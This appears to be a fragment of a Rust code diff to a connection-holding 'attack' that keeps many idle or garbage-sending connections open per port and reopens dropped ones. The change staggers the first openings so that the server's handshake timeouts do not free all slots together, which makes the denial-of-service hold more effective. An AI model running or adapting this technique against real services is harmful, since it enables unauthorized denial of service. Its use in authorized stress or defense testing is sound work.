@@ -28,8 +28,12 @@ pub struct HoldPlan {
     pub connections_per_source: usize,
     /// Every this-many-th connection sends garbage instead of staying idle (0: none).
     pub garbage_every: usize,
-    /// How long a dropped connection waits before it is opened again.
+    /// How long a dropped connection waits before it is opened again (zero: at the next look,
+    /// every 50 ms).
     pub reopen_after: Duration,
+    /// The first openings are spread over this long, so that the connections' handshake
+    /// timeouts do not all fall at once and leave every slot free together.
+    pub spread_over: Duration,
 }
 
 /// What the attack did, so far.
@@ -62,7 +66,7 @@ struct Slot {
 }
 
 /// How often the attack threads look at their sockets.
-const POLL_INTERVAL: Duration = Duration::from_millis(20);
+const POLL_INTERVAL: Duration = Duration::from_millis(50);
 
 impl Hold {
     /// Starts the attack: one thread per port, each holding its port's connections.
@@ -76,6 +80,8 @@ impl Hold {
         let mut threads = Vec::new();
         for &port in &plan.ports {
             let mut slots = Vec::new();
+            let total = usize::from(plan.sources) * plan.connections_per_source;
+            let started = Instant::now();
             for source in 0..plan.sources {
                 for index in 0..plan.connections_per_source {
                     let number = usize::from(source) * plan.connections_per_source + index;
@@ -85,7 +91,10 @@ impl Hold {
                         garbage: plan.garbage_every > 0
                             && number.is_multiple_of(plan.garbage_every),
                         stream: None,
-                        reopen_at: Instant::now(),
+                        reopen_at: started
+                            + plan
+                                .spread_over
+                                .mul_f64(number as f64 / total.max(1) as f64),
                     });
                 }
             }
